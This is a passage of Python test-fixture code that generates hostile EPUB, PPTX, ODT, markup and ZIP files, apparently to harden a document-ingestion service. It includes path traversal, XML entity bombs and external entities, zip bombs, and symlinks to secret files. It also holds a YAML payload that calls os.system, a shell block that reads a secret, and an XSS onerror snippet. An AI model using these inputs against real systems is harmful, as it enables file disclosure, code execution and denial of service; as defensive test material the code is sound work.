    "100,000 times a chapter.epub": lambda: zipped(epub_parts(100_000, chapter=chapter_xml(HTML_BODY * 20))),
    "chapter elsewhere.epub": lambda: zipped(epub_parts(href=f"../../../../..{SECRET}")),
    "chapter absolute.epub": lambda: zipped(epub_parts(href=f"file://{SECRET}")),
    "chapter remote.epub": lambda: zipped(epub_parts(href=f"{REMOTE}/chapter.xhtml")),
    "chapter is itself.epub": lambda: zipped(epub_parts(href="book.opf")),
    "no spine.epub": lambda: zipped({**epub_parts(), "book.opf": f"{XML}<package/>"}),
    "spine of nothing.epub": lambda: zipped(epub_parts(0)),
    "container with laughs.epub": lambda: zipped(
        {**epub_parts(), "META-INF/container.xml": f"{XML}{LAUGHS}<container>&a9;</container>"}
    ),
    "package with a file.epub": lambda: zipped({**epub_parts(), "book.opf": f"{XML}{EXTERNAL}<package>&e;</package>"}),
    "container of itself.epub": lambda: zipped(
        {
            **epub_parts(),
            "META-INF/container.xml": str(epub_parts()["META-INF/container.xml"]).replace(
                "book.opf", "META-INF/container.xml"
            ),
        }
    ),
    "with a lock.epub": lambda: zipped(
        {
            **epub_parts(chapter=b"\x81\x12" * 900),
            "META-INF/encryption.xml": f'{XML}<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData '
            'xmlns="http://www.w3.org/2001/04/xmlenc#"><CipherData><CipherReference URI="chapter.xhtml"/></CipherData></EncryptedData></encryption>',
        }
    ),
    "chapter deep.epub": lambda: zipped(epub_parts(chapter=chapter_xml("<div>" * 8_000 + WORDS + "</div>" * 8_000))),
    "chapter is a picture.epub": lambda: zipped(epub_parts(chapter=PNG)),
    "100,000 times a slide.pptx": lambda: zipped(pptx_parts(100_000)),
    "a slide of itself.pptx": lambda: zipped(
        {
            **pptx_parts(),
            "ppt/slides/_rels/slide1.xml.rels": relations(("notesSlide", "slide1.xml"), ("slide", "slide1.xml")),
        }
    ),
    "slide elsewhere.pptx": lambda: zipped(
        {**pptx_parts(), "ppt/_rels/presentation.xml.rels": relations(("slide", f"../../../..{SECRET}"))}
    ),
    "macros.pptx": lambda: zipped({**pptx_parts(), "ppt/vbaProject.bin": compound("VBA", b"\xcc\x61" * 3_000)}),
    "a billion spaces.odt": lambda: zipped(
        odf_parts("text", content_xml(f'{ODT_BODY}<text:p>a<text:s text:c="1000000000"/>b</text:p>'))
    ),
    "odd spaces.odt": lambda: zipped(
        odf_parts("text", content_xml(f'{ODT_BODY}<text:p>a<text:s text:c="-5"/><text:s text:c="x"/>b</text:p>'))
    ),
    "a billion cells.odt": lambda: zipped(
        odf_parts(
            "text",
            content_xml(
                f'{ODT_BODY}<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
                'table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
            ),
        )
    ),
    "levels.odt": lambda: zipped(
        odf_parts(
            "text",
            content_xml(
                "".join(
                    f'<text:h text:outline-level="{level}">Title {level}</text:h><text:p>x</text:p>'
                    for level in ("-1", "x", "", "99999999999999999999")
                )
            ),
        )
    ),
    "lists.odt": lambda: zipped(
        odf_parts(
            "text",
            content_xml(
                f"{ODT_BODY}{'<text:list><text:list-item>' * 2_000}<text:p>x</text:p>{'</text:list-item></text:list>' * 2_000}"
            ),
        )
    ),
    "with a lock.odt": lambda: zipped(
        {
            **odf_parts("text", b"\x81\x12" * 900),
            "META-INF/manifest.xml": str(odf_parts("text", "")["META-INF/manifest.xml"]).replace(
                'media-type="text/xml"/>', 'media-type="text/xml"><manifest:encryption-data/></manifest:file-entry>'
            ),
        }
    ),
}

PLAIN: dict[str, Make] = {
    "includes.rst": lambda: (
        f"{TITLE}\n=======\n\n.. include:: {SECRET}\n\n.. raw:: html\n   :file: {SECRET}\n\n.. csv-table::\n   :file: {SECRET}\n\n.. literalinclude:: {SECRET}\n\n{WORDS}\n".encode()
    ),
    "includes.adoc": lambda: f"== {TITLE}\n\ninclude::{SECRET}[]\n\nimage::file://{SECRET}[]\n\n{WORDS}\n".encode(),
    "includes.org": lambda: (
        f'* {TITLE}\n\n#+INCLUDE: "{SECRET}"\n#+SETUPFILE: {SECRET}\n\n#+begin_src sh :results output\ncat {SECRET}\n#+end_src\n\n{WORDS}\n'.encode()
    ),
    "includes.mediawiki": lambda: (
        f"== {TITLE} ==\n\n{{{{:File:{SECRET}}}}} {{{{#invoke:os|execute}}}}\n\n{WORDS}\n".encode()
    ),
    "substitutions.rst": lambda: (
        b"T\n=\n\n"
        + b"".join(b".. |a%d| replace:: |a%d| |a%d|\n" % (row, row + 1, row + 1) for row in range(5_000))
        + b"|a0|\n"
    ),
    "attributes.adoc": lambda: (
        b"".join(b":a%d: {a%d}{a%d}\n" % (row, row + 1, row + 1) for row in range(5_000)) + b"\n== {a0}\n\ntext\n"
    ),
    "templates.mediawiki": lambda: b"== T ==\n" + b"{{" * 400_000 + b"\n",
    "closed templates.mediawiki": lambda: b"== T ==\n" + b"{{a|" * 100_000 + b"}}" * 100_000 + b"\ntext\n",
    "tables.mediawiki": lambda: b"== T ==\n" + b"{|\n|-\n|\n" * 6_000,
    "links.mediawiki": lambda: b"== T ==\n" + b"[[" * 400_000,
    "quotes.mediawiki": lambda: b"== T ==\n" + b"'''''a" * 160_000,
    "tags.mediawiki": lambda: b"== T ==\n" + b"<nowiki><ref><div>" * 50_000,
    "signs.mediawiki": lambda: b"=" * 900_000 + b"\ntext\n",
    "comments.mediawiki": lambda: b"== T ==\n" + b"<!--" * 200_000,
    "drawers.org": lambda: b"* T\n" + b":PROPERTIES:\n" * 9_000 + b"text\n",
    "blocks.org": lambda: b"* T\n" + b"#+BEGIN_SRC\n" * 9_000 + b"text\n",
    "stars.org": lambda: b"*" * 900_000 + b" T\ntext\n",
    "stars deep.org": lambda: b"".join(b"*" * (row % 900 + 1) + b" T\nx\n" for row in range(3_000)),
    "tables.org": lambda: b"* T\n" + b"|a|b|\n|-+-|\n" * 9_000,
    "links.org": lambda: b"* T\n" + b"[[" * 400_000,
    "tags.org": lambda: b"* T " + b":a" * 400_000 + b"\ntext\n",
    "underlines.rst": lambda: b"T\n=\n\n" + b"a\n-\nb\n~\n" * 4_900,
    "all underlines.rst": lambda: (
        b"".join(b"a\n%c\n\nx\n\n" % sign for sign in b"!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~") * 120
    ),
    "tables.rst": lambda: b"T\n=\n\n" + b"+---+\n| a |\n" * 9_000,
    "directives.rst": lambda: b"T\n=\n\n" + b"".join(b" " * (row % 900) + b".. note::\n" for row in range(9_000)),
    "roles.rst": lambda: b"T\n=\n\n" + b":a:`b" * 150_000,
    "backticks.rst": lambda: b"T\n=\n\n" + b"`" * 900_000,
    "blocks.adoc": lambda: b"== T\n\n" + b"----\n====\n" * 9_000,
    "signs.adoc": lambda: b"=" * 900_000 + b" T\n\ntext\n",
    "cells.adoc": lambda: b"== T\n\n|===\n" + b"|a" * 400_000 + b"\n|===\n",
    "macros.adoc": lambda: b"== T\n\n" + b"link:a[" * 100_000,
    "conditions.adoc": lambda: b"== T\n\n" + b"ifdef::a[]\n" * 9_000 + b"text\n",
}
PLAIN |= {
    f"{name}{ending}": partial(bytes.replace, data, WORDS.encode(), body)
    for ending, data in SOUND.items()
    if ending in (".rst", ".adoc", ".mediawiki", ".org")
    for name, body in {
        "controls": b"a\x1b[31m\x07 b",
        "half a pair": b"a\xed\xa0\x80b",
        "turned round": "\u202eyap ot tnaw uoY \u2066".encode(),
        "markup": SCRIPT.encode() + b" <img src=x onerror=window.hostile=1>",
        "a line of 900,000": b"word " * 180_000,
        "spaces": b"a" + b" " * 900_000 + b"b",
        "noise": b"\xff" * 10_000,
        "nul": b"a\0b",
    }.items()
}

MISLABELLED: dict[str, Make] = {
    f"truly {true[1:]}{ending}": partial(SOUND.__getitem__, true)
    for ending, others in {
        ".docx": (".pdf", ".odt", ".xlsx", ".html", ".csv", ".epub"),
        ".pdf": (".html", ".docx", ".csv", ".rst"),
        ".odt": (".docx", ".ods", ".pdf"),
        ".pptx": (".docx", ".odt", ".pdf"),
        ".epub": (".docx", ".odt", ".html"),
        ".xlsx": (".docx", ".epub", ".csv", ".html", ".xls", ".ods"),
        ".xls": (".xlsx", ".html", ".csv", ".pdf"),
        ".ods": (".odt", ".docx", ".csv"),
        ".csv": (".xlsx", ".pdf", ".html", ".json"),
        ".json": (".xlsx", ".csv", ".html", ".jsonl"),
        ".jsonl": (".json", ".pdf"),
        ".html": (".pdf", ".docx", ".csv"),
        ".rst": (".docx", ".pdf"),
        ".adoc": (".pdf",),
        ".org": (".odt",),
        ".mediawiki": (".epub",),
    }.items()
    for true in others
}
DAMAGED: dict[str, Make] = {
    f"{name}{ending}": partial(damage, data)
    for ending, data in SOUND.items()
    for name, damage in {
        "half": lambda data: data[: len(data) // 2],
        "nearly whole": lambda data: data[:-7],
        "empty": lambda _: b"",
        "blank": lambda _: b" \r\n\t\n",
        "picture": lambda _: PNG,
        "zeros": lambda _: bytes(10_000),
        "first bytes, then noise": lambda data: data[:8] + b"\xff" * 10_000,
        "noise in the middle": lambda data: data[: len(data) // 2] + b"\xff\0\x80" * 20 + data[len(data) // 2 + 60 :],
        "twice": lambda data: data * 2,
        "behind a mark": lambda data: b"\xef\xbb\xbf" + data,
    }.items()
}

CASES: dict[str, Make] = {
    **{name: make for ending, format in PACKED.items() for name, make in _packed(ending, format).items()},
    **WORD,
    **SHEETS,
    **WEB,
    **BOOKS,
    **PLAIN,
    **PDFS,
    **MISLABELLED,
    **DAMAGED,
}

ZIPS: dict[str, Make] = {
    "sound.zip": lambda: zip_of([member(f"guide/refunds{ending}", data) for ending, data in SOUND.items()]),
    "traversal.zip": lambda: zip_of([member(f"{name}.md", b"# Refunds\n\nhostile\n") for name in TRAVERSALS]),
    "absolute.zip": lambda: zip_of([member("/tmp/hostile.md", b"# hostile\n"), member("//host/share/hostile.md", b"# x\n")]),
    "devices.zip": lambda: zip_of([member(f"{name}.md", b"# x\n") for name in ("CON", "NUL", "COM1", "aux", "C:\\hostile", "a:b")]),
    "links.zip": lambda: zip_of(
        [
            member("passwd.md", SECRET.encode(), attributes=0o120777 << 16),
            member("folder", b"/etc", attributes=0o120777 << 16),
            member("folder/hostile.md", b"# hostile\n"),
        ]
    ),
    "pipes.zip": lambda: zip_of([member("pipe.md", b"", attributes=0o010644 << 16), member("disk.md", b"", attributes=0o060644 << 16)]),
    "1 GB.zip": lambda: zip_of([filled("a.md", b"# a\n", 1_000, b"word ")]),
    "lying about its size.zip": lambda: zip_of([filled("a.md", b"# a\n", 1_000, b"word ", size=100)]),
    "many of 4 MB.zip": lambda: zip_of(_copies(filled("a.md", b"# a\n", 4, b"word "), 2_000)),
    "100,000 members.zip": lambda: zip_of([member(f"{row}.md", b"# a\n\nb\n") for row in range(100_000)]),
    "nested.zip": _nested_zips,
    "itself.zip": lambda: zip_of([member("a.zip", zip_of([member("a.zip", SOUND[".docx"])]))]),
    "overlapping.zip": lambda: zip_of(_copies(filled("a.md", b"# a\n", 4, b"word "), 2_000, at=0)),
    "same name.zip": lambda: zip_of([member("a.md", b"# first\n\nx\n"), member("a.md", b"# second\n\ny\n"), member("A.MD", b"# third\n\nz\n")]),
    "file and folder.zip": lambda: zip_of([member("a.md", b"# first\n\nx\n"), member("a.md/b.md", b"# second\n\ny\n")]),
    "encrypted.zip": lambda: zip_of([member("a.md", b"\x81\x12" * 90, flags=1)]),
    "unknown packing.zip": lambda: zip_of([member("a.md", b"# a\n\nb\n", method=99)]),
    "wrong checksum.zip": lambda: zip_of([member("a.md", b"# a\n\nb\n")]).replace(struct.pack("<I", zlib.crc32(b"# a\n\nb\n")), b"\1\2\3\4"),
    "deep folders.zip": lambda: zip_of([member("a/" * 5_000 + "b.md", b"# a\n\nb\n")]),
    "long name.zip": lambda: zip_of([member("a" * 60_000 + ".md", b"# a\n\nb\n")]),
    "names not utf-8.zip": lambda: zip_of([member(b"\xff\xfe\x80.md", b"# a\n\nb\n"), member("a\nb\x1b[31m.md", b"# a\n\nb\n")]),
    "hidden.zip": lambda: zip_of([member("__MACOSX/._a.md", b"\0\5\x16\7" * 20), member(".git/config.md", b"# x\n"), member("a.md", b"# a\n\nb\n")]),
    "settings.zip": lambda: zip_of([member("guide.yaml", b"!!python/object/apply:os.system ['touch hostile']\n"), member("a.md", b"# a\n\nb\n")]),
    "half.zip": lambda: ZIPS["sound.zip"]()[:3_000],
    "behind noise.zip": lambda: b"\xff" * 5_000 + ZIPS["sound.zip"](),
    "no members.zip": lambda: zip_of([]),
    "truly pdf.zip": lambda: SOUND[".pdf"],
    "truly docx.zip": lambda: SOUND[".docx"],
    "empty.zip": lambda: b"",
    "noise.zip": lambda: b"PK\x03\x04" + b"\xff" * 10_000,
}  # fmt: skip

# Files that take seconds each, and of the same format the one that stands for them unless HOSTILE=all is set.
COSTLY: dict[str, str] = {
    "elements of 40 MB.docx": "a word of 40 MB.docx",
    "elements of 40 MB.odt": "a word of 40 MB.odt",
    "elements of 40 MB.pptx": "a word of 40 MB.pptx",
    "elements of 40 MB.xlsx": "a paragraph of 200 MB.xlsx",
    "a word of 40 MB.xlsx": "a paragraph of 200 MB.xlsx",
    "a word of 40 MB.ods": "elements of 40 MB.ods",
    "a word of 40 MB.epub": "elements of 40 MB.epub",
    "100,000 members.docx": "overlapping.docx",
    "100,000 members.odt": "overlapping.odt",
    "100,000 members.epub": "overlapping.epub",
    "100,000 namespaces.epub": "200,000 attributes.epub",
    "200,000 runs.docx": "breaks.docx",
    "40,000 headings.docx": "200,000 paragraphs.docx",
    "200,000 rows.xlsx": "a million cells.xlsx",
    "10,000 sheets.xlsx": "a million cells.xlsx",
    "60,000 rows.xls": "far apart.xls",
    "a billion empty rows.ods": "a billion rows.ods",
    "a million rows.csv": "19,000 rows.csv",
    "an open quote.csv": "quotes.csv",
    "a million keys.json": "a million entries.json",
    "100,000 columns.html": "many wide cells.html",
    "100,000 rows.html": "many wide cells.html",
    "details.html": "lists within lists.html",
    "links within links.html": "formatting.html",
    "ids.html": "200,000 attributes.html",
    "forms ten to the tenth.pdf": "forms two to the thirtieth.pdf",
    "forms of one another.pdf": "forms two to the thirtieth.pdf",
    "1 GB drawn, packed twice.pdf": "1 GB drawn.pdf",
    "a page 3,000 times.pdf": "a million texts.pdf",
    "100,000 members.pptx": "overlapping.pptx",
    "a heading of 1 MB.html": "a title of 4 MB.html",
    "a cell of 10 MB.csv": "a cell of 900,000.csv",
    "comments.mediawiki": "tags.mediawiki",
    "roles.rst": "backticks.rst",
    "spaces.adoc": "a line of 900,000.adoc",
    "macros.adoc": "cells.adoc",
}

# Sound in spite of what is in them: their words must be read.
READ: tuple[str, ...] = (
    "macros.docx",
    "macros.xlsx",
    "macros.pptx",
    "markup.docx",
    "fields.docx",
    "scripts.html",
    "includes.rst",
    "includes.adoc",
    "includes.org",
    "includes.mediawiki",
    "javascript.pdf",
    "launch.pdf",
    "attached.pdf",
    "traversal.docx",
    "turned round.docx",
    "turned round.html",
)
